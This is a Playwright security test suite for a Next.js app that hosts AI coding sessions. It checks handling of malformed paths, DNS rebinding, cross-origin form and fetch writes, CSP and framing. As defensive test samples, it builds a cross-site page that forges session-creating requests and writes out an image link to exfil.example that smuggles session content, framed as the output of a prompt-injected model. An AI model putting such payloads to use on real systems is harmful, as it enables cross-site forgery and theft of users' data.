import { spawn } from "node:child_process";
import { openSync, readFileSync } from "node:fs";
import http from "node:http";
import net, { type AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { guestOn, withCookie } from "./auth";
import { openNewSession, runStatus } from "./helpers";
import { APP_PORT, SPARE_APP_PORT } from "./ports";

/**
 * The production server as an attacker and a careless client meet it: what Next.js
 * handles before any route (broken %-escapes, unknown paths, wrong methods), foreign Host
 * headers (DNS rebinding), writes from another site's page, and the security headers and
 * Content-Security-Policy the pages have to work under.
 */

const APP = `http://127.0.0.1:${APP_PORT}`;

/** the Cookie header of a guest of the shared app: raw requests come from a signed-in browser */
let guestCookie = "";

test.beforeAll(async () => {
  guestCookie = await guestOn(APP);
});

type RawResponse = { status: number; headers: http.IncomingHttpHeaders; body: string };

/** One request with the path and headers exactly as written (fetch would normalise the path and refuse a Host). */
function raw(method: string, path: string, headers: Record<string, string> = {}, body?: string): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const sent = { cookie: guestCookie, ...headers };
    const request = http.request({ host: "127.0.0.1", port: APP_PORT, method, path, headers: sent }, (response) => {
      let text = "";
      response.setEncoding("utf8");
      response.on("data", (chunk) => {
        text += chunk;
      });
      response.on("end", () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text }));
    });
    request.on("error", reject);
    request.end(body);
  });
}

function expectSecurityHeaders(response: RawResponse) {
  expect(response.headers["x-frame-options"]).toBe("DENY");
  expect(response.headers["x-content-type-options"]).toBe("nosniff");
  expect(response.headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
  expect(response.headers["permissions-policy"]).toContain("camera=()");
  expect(response.headers["content-security-policy"]).toContain("frame-ancestors 'none'");
}

function expectJsonError(response: RawResponse, status: number, code: string) {
  expect(response.status, response.body).toBe(status);
  expect(response.headers["content-type"]).toMatch(/^application\/json/);
  const body = JSON.parse(response.body) as { error: { code: string; message: string } };
  expect(body.error.code).toBe(code);
  expect(body.error.message.length).toBeLessThan(300);
  expectSecurityHeaders(response);
}

test("what Next.js sees before a route answers in the API's JSON error shape", async () => {
  expectJsonError(await raw("GET", "/api/sessions/%ZZ"), 400, "bad_request:url");
  expectJsonError(await raw("GET", "/api/sessions/%ED%A0%80/runs"), 400, "bad_request:url");
  expectJsonError(await raw("GET", "/api/sessions/abc%00"), 400, "bad_request:id");
  expectJsonError(await raw("GET", `/api/sessions/${"x".repeat(5000)}`), 400, "bad_request:id");
  expectJsonError(await raw("GET", "/api/nope/deeper"), 404, "not_found:route");
  expectJsonError(await raw("POST", "/api/nope", { "content-type": "application/json" }, "{}"), 404, "not_found:route");

  const put = await raw("PUT", "/api/sessions", { "content-type": "application/json" }, "{}");
  expectJsonError(put, 405, "method_not_allowed:route");
  expect(put.headers.allow).toBe("GET, HEAD, OPTIONS, POST");
  const deleteRuns = await raw("DELETE", "/api/sessions/abc/runs");
  expectJsonError(deleteRuns, 405, "method_not_allowed:route");
  expect(deleteRuns.headers.allow).toBe("GET, HEAD, OPTIONS, POST");
  const options = await raw("OPTIONS", "/api/sessions/abc");
  expect(options.status).toBe(204);
  expect(options.headers.allow).toBe("GET, HEAD, OPTIONS, PATCH, DELETE");

  const form = await raw("POST", "/api/sessions", { "content-type": "text/plain" }, '{"task":"a form post"}');
  expectJsonError(form, 415, "unsupported_media_type:body");
  const nul = await raw("POST", "/api/sessions", { "content-type": "application/json" }, '{"task":"a\\u0000b"}');
  expectJsonError(nul, 400, "bad_request:text");
});

test("a 12 MB upload reaches the route whole through the proxy (Next.js would cut it at 10 MB)", async () => {
  test.setTimeout(120_000);
  // The shared app runs with a 1 MiB project limit; this one has the default 20 MiB.
  const env: NodeJS.ProcessEnv = { ...process.env, DATABASE_URL: "", DATA_DIR: "memory://" };
  delete env.PROJECT_MAX_BYTES;
  const server = spawn("npx", ["next", "start", "-p", String(SPARE_APP_PORT), "-H", "127.0.0.1"], {
    detached: true,
    stdio: "ignore",
    env,
  });
  const base = `http://127.0.0.1:${SPARE_APP_PORT}`;
  try {
    await expect
      .poll(async () => (await fetch(`${base}/api/health`).catch(() => null))?.status, { timeout: 60_000 })
      .toBe(200);
    const size = 12 * 1024 * 1024;
    const form = new FormData();
    form.append("task", "Summarise big.txt");
    form.append("file", new Blob([Buffer.alloc(size, "a\n")]), "big.txt");
    form.append("path", "big.txt");
    const response = await withCookie(await guestOn(base))(`${base}/api/sessions`, { method: "POST", body: form });
    expect(response.status, await response.clone().text()).toBe(201);
    const { startingFiles } = (await response.json()) as { startingFiles: { fileCount: number; totalBytes: number } };
    expect(startingFiles).toMatchObject({ fileCount: 1, totalBytes: size });
  } finally {
    const exited = new Promise((resolve) => server.once("exit", resolve));
    if (server.pid) process.kill(-server.pid, "SIGTERM");
    await exited;
  }
});

test("a broken %-escape in a page address shows the not-found page", async ({ page }) => {
  for (const path of ["/s/%ZZ", "/s/%E0%A4%A"]) {
    const response = await page.goto(path);
    expect(response?.status()).toBe(404);
    await expect(page.getByRole("heading", { name: "Not found" })).toBeVisible();
  }
});

test("a Host the app doesn't serve is refused, so DNS rebinding reads and writes nothing", async () => {
  const rebound = { host: `rebound.example:${APP_PORT}` };
  const page = await raw("GET", "/", rebound);
  expect(page.status).toBe(403);
  expect(page.body).toContain("ALLOWED_HOSTS");
  expectSecurityHeaders(page);
  expectJsonError(await raw("GET", "/api/sessions", rebound), 403, "forbidden:host");
  expectJsonError(
    await raw("POST", "/api/sessions", { ...rebound, "content-type": "application/json" }, '{"task":"rebound"}'),
    403,
    "forbidden:host",
  );
  for (const host of [`localhost:${APP_PORT}`, `127.0.0.1:${APP_PORT}`, `[::1]:${APP_PORT}`]) {
    expect((await raw("GET", "/api/sessions", { host })).status).toBe(200);
  }
  // a served name with more than a port after it: mailed links are built from the Host
  for (const host of ["localhost:1@rebound.example", "localhost:99999"]) {
    const body = '{"email":"someone@example.com","redirectTo":"/reset-password"}';
    const headers = { host, "content-type": "application/json" };
    expectJsonError(await raw("POST", "/api/auth/request-password-reset", headers, body), 403, "forbidden:host");
  }
});

/** Serves one page on a port of its own: another origin than the app's. */
async function serveForeignPage(html: string): Promise<{ url: string; close: () => Promise<void> }> {
  const server = http.createServer((_request, response) => {
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    response.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

test("a page on another origin can't create sessions: no-cors fetch and a text/plain form are refused", async ({
  page,
  request,
}) => {
  const marker = `cross-site-${Date.now()}`;
  const foreign = await serveForeignPage(`<!doctype html><html><body>
    <iframe name="sink"></iframe>
    <form method="POST" action="${APP}/api/sessions" enctype="text/plain" target="sink">
      <input name='{"task":"${marker} form","x":"' value='"}'>
    </form>
    <script>
      fetch("${APP}/api/sessions", { method: "POST", mode: "no-cors", body: JSON.stringify({ task: "${marker} fetch" }) });
      fetch("${APP}/api/sessions", {
        method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" },
        body: JSON.stringify({ task: "${marker} text" }),
      });
      document.forms[0].submit();
    </script>
  </body></html>`);
  // Each request reaches the server and is refused (the no-cors answers are also withheld from the page).
  const sent: string[] = [];
  const outcomes: string[] = [];
  page.on("request", (request) => {
    if (request.url() === `${APP}/api/sessions` && request.method() === "POST") sent.push(request.url());
  });
  page.on("requestfinished", async (request) => {
    if (request.url() === `${APP}/api/sessions`) outcomes.push(String((await request.response())?.status()));
  });
  page.on("requestfailed", (request) => {
    if (request.url() === `${APP}/api/sessions`) outcomes.push(request.failure()?.errorText ?? "failed");
  });
  try {
    await page.goto(foreign.url);
    await expect.poll(() => outcomes.length).toBe(3);
    expect(sent).toHaveLength(3);
    expect(outcomes.filter((outcome) => outcome === "201")).toEqual([]);
  } finally {
    await foreign.close();
  }
  const { sessions } = (await (await request.get("/api/sessions")).json()) as { sessions: { title: string }[] };
  expect(sessions.filter((session) => session.title.includes(marker))).toEqual([]);

  // A script (no Origin, JSON) still can.
  const script = await request.post("/api/sessions", { data: { task: `${marker} script` } });
  expect(script.status()).toBe(201);
});

/** Sends `head` and `body` as one request and resets the connection at once, answered or not. */
function hangUp(port: number, head: string[], body: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, "127.0.0.1", () => {
      socket.write(`${[...head, `Content-Length: ${Buffer.byteLength(body)}`].join("\r\n")}\r\n\r\n${body}`);
      socket.resetAndDestroy();
      resolve();
    });
    socket.on("error", reject);
  });
}

test("a client that hangs up on a refused write logs no uncaught exception", async () => {
  test.setTimeout(120_000);
  // Its own server, to read what it logs (the shared app's output goes to Playwright).
  const logPath = test.info().outputPath("server.log");
  const server = spawn("npx", ["next", "start", "-p", String(SPARE_APP_PORT), "-H", "127.0.0.1"], {
    detached: true,
    stdio: ["ignore", openSync(logPath, "a"), openSync(logPath, "a")],
    env: { ...process.env, DATABASE_URL: "", DATA_DIR: "memory://" },
  });
  const base = `http://127.0.0.1:${SPARE_APP_PORT}`;
  const host = `127.0.0.1:${SPARE_APP_PORT}`;
  const json = "Content-Type: application/json";
  try {
    await expect
      .poll(async () => (await fetch(`${base}/api/health`).catch(() => null))?.status, { timeout: 60_000 })
      .toBe(200);
    // the proxy's refusals of a request with a body: Host, Origin, method, body type
    const refused = [
      ["POST /api/sessions HTTP/1.1", "Host: rebound.example", json],
      [
        "POST /api/sessions HTTP/1.1",
        `Host: ${host}`,
        json,
        "Origin: http://evil.example",
        "Sec-Fetch-Site: cross-site",
      ],
      ["POST /api/health HTTP/1.1", `Host: ${host}`, json],
      ["POST /api/sessions HTTP/1.1", `Host: ${host}`, "Content-Type: text/plain"],
    ];
    for (let round = 0; round < 5; round++) {
      for (const head of refused) await hangUp(SPARE_APP_PORT, head, '{"task":"hang up"}');
    }
    // every request has been handled once a later one is answered on a fresh connection
    await new Promise((resolve) => setTimeout(resolve, 1000));
    expect((await fetch(`${base}/api/health`)).status).toBe(200);
  } finally {
    const exited = new Promise((resolve) => server.once("exit", resolve));
    if (server.pid) process.kill(-server.pid, "SIGTERM");
    await exited;
  }
  const log = readFileSync(logPath, "utf8");
  expect(log).not.toContain("uncaughtException");
  expect(log).not.toContain("Error: aborted");
});

/** Records CSP violations, console errors and the browser's complaints about our security headers. */
async function watchForViolations(page: Page): Promise<() => Promise<string[]>> {
  const problems: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" || /Content.Security.Policy|Permissions.Policy/i.test(message.text())) {
      problems.push(message.text());
    }
  });
  page.on("pageerror", (error) => problems.push(error.message));
  page.on("response", (response) => {
    if (response.status() >= 400) problems.push(`${response.status()} ${response.url()}`);
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.push(`${event.violatedDirective} blocked ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  return async () => [
    ...problems,
    ...(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)),
  ];
}

test("the app works under its Content-Security-Policy: Monaco and its worker start, the stream runs, nothing is blocked", async ({
  page,
}) => {
  const violations = await watchForViolations(page);
  const workers: string[] = [];
  page.on("worker", (worker) => workers.push(worker.url()));

  const home = await page.goto("/");
  const policy = (await home?.allHeaders())?.["content-security-policy"] ?? "";
  expect(policy).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/);
  expect(policy).toContain("img-src 'self' data: blob:");
  await expect(page.getByRole("button", { name: /New session/ })).toBeEnabled();
  expect(await violations()).toEqual([]);

  await openNewSession(page, "Write a sum function in TypeScript with vitest tests");
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(runStatus(page)).toContainText("Done", { timeout: 30_000 });
  await expect(page.locator(".monaco-editor .view-lines")).toContainText("export function sum");
  await expect.poll(() => workers.filter((url) => url.startsWith(`${APP}/`)).length).toBeGreaterThan(0);
  expect(workers.filter((url) => !url.startsWith(`${APP}/`) && !url.startsWith("blob:"))).toEqual([]);
  expect(await violations()).toEqual([]);

  await page.reload();
  await expect(page.locator(".monaco-editor .view-lines")).toContainText("export function sum");
  expect(await violations()).toEqual([]);
});

test("an image in model output is not fetched: it shows as a link saying where it goes", async ({ page, request }) => {
  const sessionId = await openNewSession(page, "Write a sum function in TypeScript with vitest tests");
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await expect(runStatus(page)).toContainText("Done", { timeout: 30_000 });
  // The model's answer, as a prompt-injected model would write it (saved as an edit of its text step).
  const { branches } = (await (await request.get(`/api/sessions/${sessionId}/branches`)).json()) as {
    branches: { lastStep: { id: string; kind: string } }[];
  };
  const answer = branches[0]?.lastStep;
  expect(answer?.kind).toBe("text");
  const edited = await request.post(`/api/sessions/${sessionId}/steps/${answer?.id}/edit`, {
    data: { content: "Done. ![progress](http://exfil.example/pixel.png?q=the-session-content)" },
  });
  expect(edited.status()).toBe(201);

  const outbound: string[] = [];
  page.on("request", (sent) => {
    if (new URL(sent.url()).hostname === "exfil.example") outbound.push(sent.url());
  });
  await page.reload();
  const link = page.getByRole("link", { name: /Image “progress”, not loaded: open from exfil\.example/ });
  await expect(link).toBeVisible();
  await expect(link).toHaveAttribute("href", "http://exfil.example/pixel.png?q=the-session-content");
  expect(await page.locator("img[src*='exfil.example']").count()).toBe(0);
  expect(outbound).toEqual([]);
});

test("the app can't be framed by another page", async ({ page }) => {
  const refusals: string[] = [];
  page.on("console", (message) => {
    if (message.text().includes("frame-ancestors")) refusals.push(message.text());
  });
  const foreign = await serveForeignPage(`<!doctype html><iframe src="${APP}/" width="800" height="600"></iframe>`);
  try {
    await page.goto(foreign.url);
    await expect.poll(() => refusals.length).toBeGreaterThan(0);
    const frame = page.frames().find((candidate) => candidate.url().startsWith(APP));
    expect(frame ? await frame.getByText("Watch MiniMax-M2 think").count() : 0).toBe(0);
  } finally {
    await foreign.close();
  }
});
